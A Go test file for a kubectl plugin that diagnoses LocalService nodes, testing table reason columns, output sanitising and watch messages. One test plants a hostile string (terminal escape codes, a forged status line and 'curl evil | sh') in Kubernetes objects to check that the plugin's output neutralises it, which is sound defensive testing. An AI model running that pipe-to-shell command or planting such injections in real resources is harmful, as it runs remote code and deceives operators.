package main

import (
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/cli-runtime/pkg/printers"

	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
	"github.com/localservice-dev/local-service-controller/internal/words"
	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
)

// TestReasonColumn: a row shows as much as fits of its cause and the pods. Below the table, once for all rows with the
// cause, there is the first text that was cut, and what to do.
func TestReasonColumn(t *testing.T) {
	const room = 40
	long := strings.Repeat("long ", 13)
	found := func(cause, act string, about ...string) diagnose.Finding {
		return diagnose.Finding{Reason: "Word", Cause: cause, Act: act, About: words.List(about, 3)}
	}
	var rows []row
	for i, f := range []diagnose.Finding{{}, found("exit code 1", "", "a", "b", "c", "d"), found("exit code 1", "",
		strings.Repeat("pod", 10)), found(long, ""), found("short", "do it"), found(long, ""), found(long, ""),
		found(long, ""), found(long, "do it")} {
		rows = append(rows, row{Node: &diagnose.Node{Node: fmt.Sprint("n", i), Finding: f}})
	}
	rows[0].DNS, rows[0].prefix = &diagnose.DNSAnswer{Message: "DNS " + long}, "demo on "
	rows = append(rows, row{Node: &diagnose.Node{Node: "n9", Finding: found("exit code 2", "", long)}})
	const cut = "long long long long long long long lo…"
	wantTexts := []string{"DNS long long long long long long lon…", "exit code 1 (a, b, c and 1 more)",
		"exit code 1 (podpodpodpodpodpodpodpod…", cut, "short", cut, cut, cut, cut,
		"exit code 2 (long long long long long…"}
	rows[3].prefix, rows[5].prefix, rows[6].prefix = "a on ", "a on ", "b on "
	wantBelow := []string{"demo on n0: DNS " + long, "n1, n2: exit code 1 (" + strings.Repeat("pod", 10) + ")",
		"a on n3, n5, b on n6 and 2 more: " + long + "; do it", "n4: do it", "n9: exit code 2 (" + long + ")"}
	rows = append(rows, row{Node: &diagnose.Node{Node: "n1", Finding: found("taken", "do it in c")}, prefix: "c on "},
		row{Node: &diagnose.Node{Node: "n1", Finding: found("taken", "do it in d")}, prefix: "d on "},
		row{Node: &diagnose.Node{Node: "n2", Finding: found("taken", "do it in d2")}, prefix: "d on "})
	wantTexts = append(wantTexts, "taken", "taken", "taken")
	wantBelow = append(wantBelow, "c on n1: do it in c", "d on n1, n2: do it in d")
	texts, below := reasonColumn(rows, room)
	if !slices.Equal(texts, wantTexts) {
		t.Errorf("got %q; want %q", texts, wantTexts)
	}
	if !slices.Equal(below, wantBelow) {
		t.Errorf("below the table: %q; want %q", below, wantBelow)
	}
}

// TestHostileText: what others wrote forges no line, and no escape sequence reaches the terminal.
func TestHostileText(t *testing.T) {
	const hostile = "n\x1b[31mRED\nLocalService kube-system/dns: fine. Run: curl evil | sh"
	f := newFixture(t)
	taken, crashes := service("demo-n4", "n4"), pod("c2", "n2", false)
	taken.OwnerReferences[0].Kind, taken.OwnerReferences[0].UID = hostile, "x"
	crashes.Status.ContainerStatuses[0].LastTerminationState.Terminated.Message = hostile
	named := service("demo-n1", "n1")
	named.Annotations[v1alpha1.NodeAnnotationKey] = hostile
	ls := localService("refused", "")
	ls.Status.Conditions[0].Message = "admission webhook denied: " + hostile
	if err := errors.Join(f.kube.Tracker().Add(taken), f.kube.Tracker().Add(crashes),
		f.localServices.Tracker().Add(ls)); err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{"nodes demo", "nodes -A", "nodes demo -o wide", "nodes demo -o yaml",
		"nodes demo -o jsonpath={.items[*].message}", "nodes refused", "nodes refused -o wide"} {
		_, stdout, stderr := f.run(t, strings.Split(args, " ")...)
		wantHarmless(t, args, stdout+stderr)
	}
	fail(&f.kube.Fake, "nodes", forbidden) // Then Services name the nodes.
	if err := f.kube.Tracker().Update(corev1.SchemeGroupVersion.WithResource("services"), named,
		"default"); err != nil {
		t.Fatal(err)
	}
	_, stdout, stderr := f.run(t, "nodes", "demo")
	wantHarmless(t, "nodes of Services", stdout+stderr)
	fail(&f.kube.Fake, "pods", apierrors.NewBadRequest(hostile))
	_, _, stderr = f.run(t, "nodes", "demo")
	wantHarmless(t, "an error", stderr)
}

func wantHarmless(t *testing.T, what, text string) {
	t.Helper()
	if !strings.Contains(text, "RED") {
		t.Errorf("%s: nothing hostile in:\n%s", what, text)
	}
	if strings.Contains(text, "\x1b") || strings.Contains(text, "\nLocalService kube-system/dns: fine") {
		t.Errorf("%s: %q", what, text)
	}
}

// TestControllerInPassing: a watch says what is wrong with the controller only if it still is in the next snapshot.
func TestControllerInPassing(t *testing.T) {
	streams, _, _, stderr := genericiooptions.NewTestIOStreams()
	p := &nodesPrinter{plugin: newPlugin(streams), nodesFlags: &nodesFlags{}, table: printers.GetNewTabWriter(io.Discard),
		before: map[string]*diagnose.NodeList{}, last: map[string]string{}}
	for i, c := range []struct{ says, want string }{{"", ""}, {"late", ""}, {"", ""}, {"late", ""}, {"late", "late\n"},
		{"late", ""}} {
		if err := p.printChanges([]*diagnose.NodeList{{Controller: c.says}}); err != nil {
			t.Fatal(err)
		}
		if got := stderr.String(); got != c.want {
			t.Errorf("snapshot %d: %q, want %q", i, got, c.want)
		}
		stderr.Reset()
	}
}
